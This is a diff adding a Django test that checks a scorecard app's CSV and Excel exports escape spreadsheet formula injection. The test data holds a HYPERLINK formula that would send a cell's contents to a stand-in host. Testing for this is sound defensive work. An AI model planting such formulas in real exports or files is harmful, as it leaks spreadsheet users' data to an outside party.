@@ -293,3 +293,22 @@ def test_ranks_are_kept_until_the_published_figures_change(published, django_ass
     load.save()
     [fresh] = scorecard.build([indicator], published)
     assert fresh.standing.rank == 1 != rank
+
+
+def test_exports_neutralise_text_a_spreadsheet_would_run(published, client_as, people):
+    from smeaton.web.performance.models import Area
+
+    formula = '=HYPERLINK("http://example.com/?"&A1,"Click")'
+    Area.objects.filter(name="South West").update(name=formula)
+    client = client_as(people[Role.VIEWER])
+    rows = scorecard_csv(client)
+    assert rows["Children in care per 10,000"]["Region name"] == "'" + formula
+    assert rows["Children in care per 10,000"]["Region"] == "62"
+    sheet = load_workbook(io.BytesIO(client.get("/performance/scorecard.xlsx").content)).active
+    headings = [cell.value for cell in sheet[4]]
+    cells = {sheet.cell(row, 1).value: sheet.cell(row, headings.index("Region name") + 1)
+             for row in range(5, sheet.max_row + 1)}
+    region = cells["Children in care per 10,000"]
+    assert (region.value, region.data_type) == ("'" + formula, "s")
+    figure = sheet.cell(region.row, headings.index("Region") + 1)
+    assert (figure.value, figure.data_type) == (62, "n")
